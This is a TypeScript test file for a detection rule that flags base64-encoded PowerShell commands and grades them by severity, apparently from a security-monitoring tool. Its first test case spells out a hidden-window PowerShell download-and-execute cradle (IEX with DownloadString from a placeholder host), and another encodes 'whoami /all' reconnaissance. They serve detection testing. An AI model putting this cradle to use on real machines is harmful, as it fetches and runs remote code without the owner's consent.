import fc from 'fast-check'
import { expect, test } from 'vitest'
import { command, saidBy } from '../../../test/record-detector.ts'
import { encodedPowershell } from './encoded-powershell.ts'

const encode = (text: string) => Buffer.from(text, 'utf16le').toString('base64')

test.each([
  [
    'fetches code',
    command(`powershell -nop -w hidden -enc ${encode("IEX (New-Object Net.WebClient).DownloadString('http://h.example/a')")}`),
    "high: Encoded PowerShell: IEX (New-Object Net.WebClient).DownloadString('http://h.example/a')",
  ],
  [
    'hides its window',
    command(`powershell.exe -w hidden -e ${encode('whoami /all')}`),
    'medium: Encoded PowerShell: whoami /all',
  ],
  ['plain', command(`powershell.exe -EncodedCommand ${encode('Get-Service')}`), 'low: Encoded PowerShell: Get-Service'],
  [
    'remote management',
    command(`powershell.exe -noprofile -EncodedCommand ${encode('Get-Service')}`, {
      parentImage: 'C:\\Windows\\System32\\wsmprovhost.exe',
    }),
    'informational: Encoded PowerShell: Get-Service',
  ],
  ['an execution policy is no encoding', command('powershell.exe -ExecutionPolicy Bypass -File C:\\scripts\\inventory.ps1'), ''],
  ['a word that is no base64 of text', command('powershell.exe -e abcdefghijklmnop'), ''],
  ['another program', command('openssl enc -e aGVsbG8gd29ybGQgaGVsbG8='), ''],
])('%s', (_name, event, said) => {
  expect(saidBy(encodedPowershell, event)).toBe(said)
})

test('random base64 never throws', () => {
  fc.assert(
    fc.property(
      fc.stringMatching(/^[A-Za-z0-9+/=]{0,200}$/),
      text => typeof saidBy(encodedPowershell, command(`powershell -enc ${text}`)) === 'string',
    ),
  )
})
